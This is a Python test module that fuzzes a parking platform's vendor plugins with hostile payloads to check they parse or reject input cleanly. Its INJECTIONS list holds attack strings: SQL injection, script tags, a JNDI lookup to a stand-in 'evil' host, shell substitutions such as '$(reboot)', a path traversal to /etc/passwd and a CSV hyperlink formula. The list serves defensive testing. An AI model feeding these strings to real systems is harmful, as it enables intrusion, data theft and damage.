"""Hostile vendor payloads for any plugin: what a broken device or an attacker could send.

Three depths, so that fuzzing reaches past the first `json.loads` of a plugin:

- `hostile_documents`: whole payloads (arbitrary bytes, invalid UTF-8, nesting thousands of
  levels deep, huge numbers, NaN/Infinity, SQL and script fragments, wrong JSON types);
- `spliced_payloads`: valid simulated payloads with one hostile token written into a field
  (JSON values and delimited text fields alike) or into the bytes;
- `rendered_payloads`: events of valid payloads with one field set to a hostile value
  (timestamps from year 1 to 9999, huge and non-finite numbers, injections, wrong types),
  rendered back into the vendor's own format by `plugin.simulate`, so the payload is
  well-formed and only its meaning is hostile.

The property every plugin must keep is `parse_outcome`.
"""

from __future__ import annotations

import functools
import math
import re
from collections import defaultdict
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import orjson
from hypothesis import reject
from hypothesis import strategies as st

from parkflow.batch import simulate_payloads
from parkflow.events import MAX_CLOCK_SKEW, event_from_json, event_to_json, utc_now
from parkflow.registry import PluginRegistry
from parkflow.sdk import PayloadError, SourcePlugin, check_events
from parkflow.simulator import FaultRates, SimulationConfig
from parkflow.testing.fuzz import NASTY_STRINGS, random_payloads

#: Strings that break careless code further down: SQL, markup, templates, shells, paths, CSV
#: formulas, header splitting, format strings.
INJECTIONS: tuple[str, ...] = (
    "x' OR 1=1 --", "Robert'); DROP TABLE sessions;--", '" OR ""="', "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "{{7*7}}", "${jndi:ldap://evil/a}", "$(reboot)", "`id`", "../../../../etc/passwd",
    "=HYPERLINK(\"http://evil\")", "@SUM(1+1)", "%s%s%s%n", "\r\nX-Injected: 1", "\u0000",
    "\ufeff", "\u202eFDP.exe", "A" * 300, "🚗" * 50,
)  # fmt: skip
#: Number tokens as they appear in text: huge, tiny, non-finite, or not quite numbers.
NUMBER_TOKENS: tuple[str, ...] = (
    "1e308", "1e309", "-1e309", "1e-400", "18446744073709551616", "-9223372036854775809",
    "9" * 400, "0." + "0" * 400 + "1", "NaN", "nan", "Infinity", "-Infinity", "inf", "+inf",
    "1_000", "0x1F", "1e99999999", "-0", "00000000000000000001", "1.", ".5", "--1",
)  # fmt: skip
#: Timestamps as text: the ends of every calendar, epochs, and nonsense.
TIME_TOKENS: tuple[str, ...] = (
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.999999-12:00",
    "275760-09-13T00:00:00Z", "-000001-01-01T00:00:00Z", "1970-01-01T00:00:00Z",
    "2999-01-01T00:00:00Z", "2026-02-30T10:00:00Z", "2026-11-20T25:00:00Z", "2026-11-20",
    "01.01.0001 00:00:00", "31.12.9999 23:59:59", "0001-01-01 00:00", "9999-12-31 23:59:59",
    "0", "-1", "9223372036854775807", "9223372036854775808", "99999999999999999999",
)  # fmt: skip
TOKENS = INJECTIONS + NUMBER_TOKENS + TIME_TOKENS + NASTY_STRINGS
#: Byte sequences that are not UTF-8: lone continuation, overlong, surrogate, cut, 0xFF.
INVALID_UTF8: tuple[bytes, ...] = (
    b"\x80", b"\xc0\xaf", b"\xed\xa0\x80", b"\xe2\x82", b"\xf4\x90\x80\x80", b"\xff", b"\xfe\xff",
)  # fmt: skip
#: Time zones to render local times in: UTC, one with DST, and the two ends of the offsets.
ZONES = (
    UTC,
    ZoneInfo("Europe/Amsterdam"),
    ZoneInfo("Pacific/Kiritimati"),
    timezone(-timedelta(hours=12)),
)
_DELIMITERS = re.compile(rb"([;,|\t =\n:])")
_PLACEHOLDER = "\x00hostile\x00"
#: Event fields a plugin does not render from the event (set by ParkFlow, not the device).
_NOT_RENDERED = {"event_type", "source", "ingested_at", "flags"}


# --- the property ----------------------------------------------------------------------------


def parse_outcome(plugin: SourcePlugin, payload: bytes) -> str:
    """ "parsed" or "rejected"; raises AssertionError (or the plugin's own exception) when
    `parse` breaks the contract: it must return valid canonical events of its own source, or
    raise `PayloadError` with a short, readable reason, and nothing else."""
    try:
        events = plugin.parse(payload)
    except PayloadError as exc:
        reason = exc.reason
        assert isinstance(reason, str) and reason.strip(), f"no reason for {payload[:80]!r}"
        assert len(reason) <= 1000, f"a {len(reason)}-character reason"
        assert "Traceback" not in reason
        return "rejected"
    check_events(plugin, events)
    newest = utc_now() + MAX_CLOCK_SKEW
    for event in events:
        assert event.ts.utcoffset() == timedelta(0), f"{event.ts} is not UTC"
        assert event.ts <= newest + timedelta(seconds=5), f"{event.ts} is in the future"
        assert event_from_json(event_to_json(event)) == event  # valid, and survives JSON
    return "parsed"


# --- valid payloads to start from ------------------------------------------------------------


@functools.cache
def registry() -> PluginRegistry:
    """Every installed plugin (the allowlist is ignored: all of them are fuzzed)."""
    return PluginRegistry.discover()


@functools.cache
def _simulated() -> dict[str, tuple[bytes, ...]]:
    config = SimulationConfig(
        start=datetime(2026, 11, 2, 6, tzinfo=UTC),
        days=0.1,
        facilities=6,
        seed=31,
        faults=FaultRates.none(),
    )
    by_vendor: dict[str, list[bytes]] = defaultdict(list)
    for payload in simulate_payloads(config, registry()):
        if len(by_vendor[payload.vendor]) < 40:
            by_vendor[payload.vendor].append(payload.data)
    return {vendor: tuple(payloads) for vendor, payloads in by_vendor.items()}


def valid_payloads(plugin: SourcePlugin) -> tuple[bytes, ...]:
    """The plugin's bundled samples and what the traffic simulator sends for it."""
    return tuple(s.payload for s in plugin.samples()) + _simulated().get(plugin.name, ())


# --- whole hostile documents -----------------------------------------------------------------


@st.composite
def deeply_nested(draw: st.DrawFn) -> bytes:
    """JSON (or not quite) nested hundreds to thousands of levels deep."""
    depth = draw(st.integers(100, 5000))
    opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}"), (b'{"read":[', b"]}")]))
    inner = draw(st.sampled_from([b"1", b"null", b'"x"', b"{}", b"[]", b""]))
    closed = draw(st.booleans())
    return opener * depth + inner + (closer * depth if closed else b"")


def hostile_documents() -> st.SearchStrategy[bytes]:
    """Whole payloads: random ones (ParkFlow's fuzz kit), deep nesting, bare hostile tokens,
    invalid UTF-8, and JSON documents holding hostile values of every type."""
    tokens = st.sampled_from(TOKENS).map(lambda t: t.encode("utf-8", "surrogatepass"))
    json_values = st.recursive(
        st.one_of(
            st.none(),
            st.booleans(),
            st.sampled_from(TOKENS),
            st.integers(min_value=-(2**63), max_value=2**64 - 1),
            st.floats(allow_nan=False, allow_infinity=False),
        ),
        lambda children: (
            st.lists(children, max_size=3)
            | st.dictionaries(st.sampled_from(["camera", "read", "id", "ts", "value"]), children)
        ),
        max_leaves=12,
    )
    return st.one_of(
        random_payloads(),
        deeply_nested(),
        tokens,
        st.lists(st.sampled_from(INVALID_UTF8) | tokens, min_size=1, max_size=6).map(b"".join),
        json_values.map(orjson.dumps),
    )


# --- valid payloads with one hostile token ---------------------------------------------------


def _json_paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    paths = [path] if path else []
    if isinstance(value, dict):
        for key, child in value.items():
            paths += _json_paths(child, (*path, key))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            paths += _json_paths(child, (*path, index))
    return paths


def _splice_json(draw: st.DrawFn, document: Any) -> bytes | None:
    paths = _json_paths(document)
    if not paths:
        return None
    path = draw(st.sampled_from(paths))
    parent = document
    for key in path[:-1]:
        parent = parent[key]
    token = draw(st.sampled_from(TOKENS))
    raw = draw(st.booleans())  # the token as bare JSON text (NaN, 1e309, ...) or as a string
    parent[path[-1]] = _PLACEHOLDER if raw else token
    text = orjson.dumps(document)
    if raw:
        text = text.replace(orjson.dumps(_PLACEHOLDER), token.encode("utf-8", "surrogatepass"))
    return text


def _splice_field(draw: st.DrawFn, data: bytes) -> bytes:
    parts = _DELIMITERS.split(data)
    at = draw(st.sampled_from(range(0, len(parts), 2)))
    parts[at] = draw(st.sampled_from(TOKENS)).encode("utf-8", "surrogatepass")
    return b"".join(parts)


@st.composite
def spliced_payloads(draw: st.DrawFn, valid: tuple[bytes, ...]) -> bytes:
    """A valid payload with a hostile token in one JSON value, delimited field or byte span."""
    data = draw(st.sampled_from(valid))
    how = draw(st.sampled_from(["json", "field", "invalid utf-8"]))
    if how == "json":
        try:
            spliced = _splice_json(draw, orjson.loads(data))
        except orjson.JSONDecodeError:
            spliced = None
        if spliced is not None:
            return spliced
        how = "field"
    if how == "field":
        return _splice_field(draw, data)
    at = draw(st.integers(0, len(data)))
    return data[:at] + draw(st.sampled_from(INVALID_UTF8)) + data[at:]


# --- hostile values rendered in the vendor's own format --------------------------------------


def extreme_times() -> st.SearchStrategy[datetime]:
    """Aware instants from year 1 to 9999 in zones from UTC-12 to UTC+14, and around now."""
    far = st.datetimes(
        min_value=datetime(1, 1, 2),
        max_value=datetime(9999, 12, 30),
        timezones=st.sampled_from(ZONES),
    )
    now = datetime.now(UTC)
    near = st.integers(-86400, 86400 * 365).map(lambda s: now + timedelta(seconds=s))
    return far | near


def _values_like(current: object) -> st.SearchStrategy[object]:
    """Hostile values of the type a field has (plus, sometimes, of any other type)."""
    strings = st.sampled_from(TOKENS) | st.text(max_size=30)
    numbers = st.sampled_from([math.nan, math.inf, -math.inf, 1e308, -1e308, 5e-324, -0.0])
    huge_ints = st.sampled_from([-1, 0, 2**31, 2**63, 2**64, -(2**63) - 1, 10**30])
    decimals = st.sampled_from(
        [Decimal("-0.01"), Decimal("1e30"), Decimal("123456789012.34"), Decimal("0.001")]
    )
    if isinstance(current, datetime):
        typed: st.SearchStrategy[object] = extreme_times()
    elif isinstance(current, bool):
        typed = st.booleans()
    elif isinstance(current, int):
        typed = huge_ints | st.integers()
    elif isinstance(current, float):
        typed = numbers | st.floats()
    elif isinstance(current, Decimal):
        typed = decimals
    else:
        typed = strings
    anything = st.one_of(strings, numbers, huge_ints, decimals, st.none(), extreme_times())
    return st.one_of(st.just(current), typed, typed, typed, anything)


def rendered_payloads(plugin: SourcePlugin) -> st.SearchStrategy[bytes]:
    """The events of a valid payload, one field set to a hostile value, rendered by
    `plugin.simulate` in a time zone of UTC-12 to UTC+14 (rejected when it cannot render)."""
    groups = _event_groups(plugin.name)

    @st.composite
    def render(draw: st.DrawFn) -> bytes:
        events = list(draw(st.sampled_from(groups)))
        at = draw(st.integers(0, len(events) - 1))
        event = events[at]
        field = draw(st.sampled_from(sorted(set(type(event).model_fields) - _NOT_RENDERED)))
        value = draw(_values_like(getattr(event, field)))
        events[at] = event.model_copy(update={field: value})  # not validated: the point
        try:
            return plugin.simulate(events, draw(st.sampled_from(ZONES)))
        except Exception:  # the renderer cannot express it: no device could send it
            reject()

    return render()


@functools.cache
def _event_groups(name: str) -> list[tuple[Any, ...]]:
    """The events of each valid payload of a plugin that it can render again."""
    plugin = registry().get(name)
    groups = []
    for payload in valid_payloads(plugin):
        events = plugin.parse(payload)
        if events and all(e.event_type in plugin.simulates for e in events):
            groups.append(tuple(events))
    return groups
